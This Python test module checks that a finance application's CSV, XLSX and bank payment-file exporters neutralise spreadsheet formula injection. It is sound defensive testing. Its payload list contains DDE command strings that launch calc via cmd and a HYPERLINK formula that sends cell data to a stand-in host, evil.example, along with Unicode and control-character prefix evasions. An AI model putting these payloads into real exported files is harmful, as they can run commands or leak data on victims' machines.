"""Nothing that anybody wrote is run by the spreadsheet that opens a table of ours."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as some
from python_calamine import CalamineWorkbook

from union.bank.rules.files import OutLine, payment_file
from union.bank.rules.payees import PayeeDetails
from union.crisis.views.figures import _file
from union.kernel.cells import plain_cell, shown_text
from union.kernel.periods import Month
from union.reports.printers.comma import as_csv
from union.reports.printers.workbook import as_xlsx
from union.reports.sheets import Column, Kind, Row, Sheet

CLONE = Path(__file__).resolve().parents[2]
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u22121+1",
    "﹣1+1",
)
BEGINS = set("=+-@|\t\r\n＝＋－＠−﹣")


def cells(content: bytes) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        for cell in row
    ]


def is_run(cell: str) -> bool:
    return bool(cell) and cell[0] in BEGINS and not cell.lstrip("-").replace(".", "", 1).isdecimal()


def sheet(words: str) -> Sheet:
    columns = tuple(Column(words, kind) for kind in (Kind.TEXT, Kind.MONEY, Kind.NUMBER))
    return Sheet("book", words, words, "", columns, (Row((words, -123_450, -7)),), (words,))


@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_of_a_report_begins_as_a_formula(words):
    made = cells(as_csv(sheet(words)))
    assert not [cell for cell in made if is_run(cell)]
    assert {"-1234.50", "-7"} <= set(made)


@pytest.mark.parametrize("words", FORMULAS)
def test_every_text_of_a_workbook_is_text(words):
    content = as_xlsx(sheet(words))
    page = openpyxl.load_workbook(io.BytesIO(content)).active
    kinds = {cell.data_type for row in page.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s", "n", "d"}
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert any(-1234.5 in row for row in rows)


@pytest.mark.parametrize("words", FORMULAS)
def test_a_file_for_the_bank_and_the_figures_hold_to_it_too(app, words):
    details = PayeeDetails(name=words, number=words, ifsc=words, address=words)
    paid = payment_file([OutLine(details, 12_345, words)])
    assert not [cell for cell in cells(paid) if is_run(cell)]
    with app.test_request_context():
        shown = _file(Month.parse("2026-10"), [[words, "12.5", "3"]], "figures")
    made = cells(shown.data)
    assert not [cell for cell in made if is_run(cell)]
    assert made[1:] == ["12.5", "3"]


@given(some.text(max_size=30))
def test_whatever_is_written_is_shown_and_never_run(words):
    made = plain_cell(words)
    assert not is_run(made)
    assert made.removeprefix("'") == shown_text(words).removeprefix("'") or made == shown_text(
        words
    )


@pytest.mark.parametrize("words", ["Lakshmi", "12.50", "ಲಕ್ಷ್ಮಿ", "a=b", "2026-10-16", ""])
def test_what_harms_nobody_is_left_as_it_is(words):
    assert plain_cell(words) == words


def test_every_writer_of_tables_asks_for_plain_cells():
    writers = {
        path.relative_to(CLONE).as_posix()
        for path in (CLONE / "union").rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
        if isinstance(node.value, ast.Name) and node.value.id == "csv"
    }
    assert "union/reports/printers/comma.py" in writers
    careless = [one for one in writers if "plain_cell" not in (CLONE / one).read_text()]
    assert careless == []
